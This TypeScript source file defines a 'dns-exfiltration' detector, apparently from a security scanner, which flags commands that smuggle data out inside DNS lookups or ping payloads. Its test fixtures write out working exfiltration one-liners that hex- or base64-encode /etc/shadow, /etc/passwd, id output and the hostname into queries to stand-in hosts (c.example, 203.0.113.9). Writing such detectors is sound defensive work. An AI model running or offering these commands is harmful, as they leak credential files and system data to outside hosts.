import { secretsIn } from '../trace/effects/secrets.ts';
import { render } from '../trace/value.ts';
import type { Detector } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { secretWords } from './secret-words.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { valueWords } from './wording.ts';

/** Data carried away in the names that are looked up. */
export const dnsExfiltration: Detector = {
  id: 'dns-exfiltration',
  version: 2,
  title: 'Sends data away inside the names it looks up.',
  attack: ['T1048.003', 'T1071.004'],
  description: `
\`dig $(base64 < file).somebody.example\` asks the name server of that domain a question that *is* the data; it passes where
nothing else does. Nothing honest encodes data into names: *malicious*. Looking up a host whose name is in a variable, or the
machine's own name, is nothing.
`,
  fires: [
    { name: 'encoded', image: { cmd: ['sh', '-c', 'dig +short $(id | base64 -w0).c.example'] } },
    {
      name: 'a secret, through a variable',
      image: { cmd: ['sh', '-c', 'd=$(xxd -p /etc/shadow | head -c 60); nslookup "$d.c.example"'] },
    },
    {
      name: 'line by line',
      image: {
        cmd: ['sh', '-c', 'for l in $(xxd -p /etc/passwd); do nslookup $l.c.example; done'],
        files: { '/etc/passwd': 'root:x:0:0:root:/root:/bin/sh\nbin:x:1:1:bin:/bin:/sbin/nologin\n' },
      },
    },
    { name: 'in pings', image: { cmd: ['sh', '-c', 'ping -c1 -p "$(xxd -p /etc/hostname)" 203.0.113.9'] } },
  ],
  silent: [
    { name: 'its own name', image: { cmd: ['sh', '-c', 'dig +short $(hostname -f).svc.cluster.local; exec app'] } },
    {
      name: 'a configured name',
      image: { cmd: ['sh', '-c', 'nslookup "$DB_HOST.internal.example"; getent hosts "$PEER"; exec app'] },
    },
  ],
  detect(scene) {
    return effectsOf(scene, 'exfiltrate').flatMap((effect) => {
      if (effect.via !== 'dns' && effect.via !== 'icmp') return [];
      const kinds = secretsIn(render(effect.what));
      const what = kinds.size > 0 ? secretWords(kinds) : 'encoded data';
      return findingOf(scene, sightingOf(scene, effect), {
        threat: 'hostile',
        title: `Sends ${what} away inside ${effect.via === 'dns' ? 'the names it looks up, under' : 'pings to'} ${valueWords(effect.to, 80)}`,
        effects: [effect.id],
      });
    });
  },
};
